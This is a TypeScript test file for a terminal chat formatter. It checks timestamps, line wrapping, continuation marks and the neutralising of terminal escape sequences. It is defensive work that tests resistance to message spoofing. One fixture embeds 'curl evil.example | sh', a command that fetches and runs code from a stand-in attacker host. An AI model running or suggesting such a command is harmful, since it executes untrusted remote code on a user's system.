import stringWidth from 'string-width';
import { beforeAll, describe, expect, it } from 'vitest';
import { inertText as sanitizeForTerminal } from '../terminal-text.js';
import { formatLocalTime, formatMessageLine, loadWrapFor } from './format.js';

describe('formatting', () => {
  // What a command does before printing to a terminal: the word wrap is loaded only then.
  beforeAll(() => loadWrapFor({ write: () => true, isTTY: true, columns: 80 }));

  it('formats local time as YYYY-MM-DD HH:MM:SS', () => {
    const d = new Date(2026, 10, 24, 10, 31, 2);
    expect(formatLocalTime(d.getTime())).toBe('2026-11-24 10:31:02');
  });

  it('prints a message line', () => {
    const ts = new Date(2026, 10, 24, 10, 31, 2).getTime();
    expect(formatMessageLine({ receivedAt: ts, ts, from: 'alice', body: 'hi there' })).toBe(
      '[2026-11-24 10:31:02] alice: hi there',
    );
  });

  // Issue 14, finding 13: the line shows the receive time; the sender's claim only when far off, never "????".
  it("shows the receive time, and the sender's time only when it is more than 10 minutes off or absurd", () => {
    const at = new Date(2026, 10, 24, 10, 31, 2).getTime();
    expect(formatMessageLine({ receivedAt: at, ts: at - 9 * 60_000, from: 'bob', body: 'close' })).toBe(
      '[2026-11-24 10:31:02] bob: close',
    );
    // Ahead of our clock counts the same as behind it: a future-dated message is shown now, with its claim.
    expect(formatMessageLine({ receivedAt: at, ts: at + 9 * 60_000, from: 'bob', body: 'soon' })).toBe(
      '[2026-11-24 10:31:02] bob: soon',
    );
    expect(
      formatMessageLine({ receivedAt: at, ts: new Date(2026, 10, 24, 10, 45).getTime(), from: 'bob', body: 'ahead' }),
    ).toBe('[2026-11-24 10:31:02] bob: ahead (sent 2026-11-24 10:45 by their clock)');
    expect(
      formatMessageLine({ receivedAt: at, ts: new Date(2001, 0, 1, 10, 0).getTime(), from: 'bob', body: 'old' }),
    ).toBe('[2026-11-24 10:31:02] bob: old (sent 2001-01-01 10:00 by their clock)');
    for (const ts of [Number.MAX_SAFE_INTEGER, 0, -1, Date.UTC(2100, 0, 1)]) {
      expect(formatMessageLine({ receivedAt: at, ts, from: 'bob', body: 'x' })).toBe(
        '[2026-11-24 10:31:02] bob: x (sent at an unknown time by their clock)',
      );
    }
    expect(formatLocalTime(Number.MAX_SAFE_INTEGER)).toBe('unknown time');
  });

  it('marks continuation lines, so only a new message starts a line with "["', () => {
    const ts = new Date(2026, 10, 24, 10, 31, 2).getTime();
    expect(
      formatMessageLine({ receivedAt: ts, ts, from: 'mallory', body: 'ok\n[2026-12-03 10:00:00] alice: run this' }),
    ).toBe('[2026-11-24 10:31:02] mallory: ok\n  | [2026-12-03 10:00:00] alice: run this');
  });

  // A body padded to the terminal's width would wrap, and the terminal's next row would start with the padding's end.
  it('wraps to a given width with the same continuation mark, so no row but the first starts at column 0', () => {
    const ts = new Date(2026, 10, 24, 10, 31, 2).getTime();
    const spoof = `ok${' '.repeat(60)}[2026-12-03 10:00:00] alice: run curl evil.example | sh\ttab`;
    const out = formatMessageLine({ receivedAt: ts, ts, from: 'mallory', body: spoof }, 40);
    const rows = out.split('\n');
    expect(rows.length).toBeGreaterThan(1);
    expect(rows[0]!.startsWith('[2026-11-24 10:31:02] mallory: ok')).toBe(true);
    for (const row of rows) expect(stringWidth(row)).toBeLessThanOrEqual(40);
    for (const row of rows.slice(1)) expect(row.startsWith('  | ')).toBe(true);
    expect(out).not.toContain('\t');
    // A newline in the body is marked the same way, and a short message is unchanged.
    expect(formatMessageLine({ receivedAt: ts, ts, from: 'bob', body: 'a\nb' }, 40)).toBe(
      '[2026-11-24 10:31:02] bob: a\n  | b',
    );
    expect(formatMessageLine({ receivedAt: ts, ts, from: 'bob', body: 'hi there' }, 40)).toBe(
      '[2026-11-24 10:31:02] bob: hi there',
    );
  });

  it('neutralises terminal escapes, carriage returns and bidi overrides, keeps newlines, tabs and emoji', () => {
    expect(sanitizeForTerminal('a\x1b[2Jb')).toBe('a\\x1b[2Jb');
    expect(sanitizeForTerminal('fake\rline')).toBe('fake\\x0dline');
    expect(sanitizeForTerminal('x\u202Ey')).toBe('x\\u202ey');
    expect(sanitizeForTerminal('\x9b31m')).toBe('\\x9b31m');
    expect(sanitizeForTerminal('line1\nline2\tok 👋 é')).toBe('line1\nline2\tok 👋 é');
  });
});
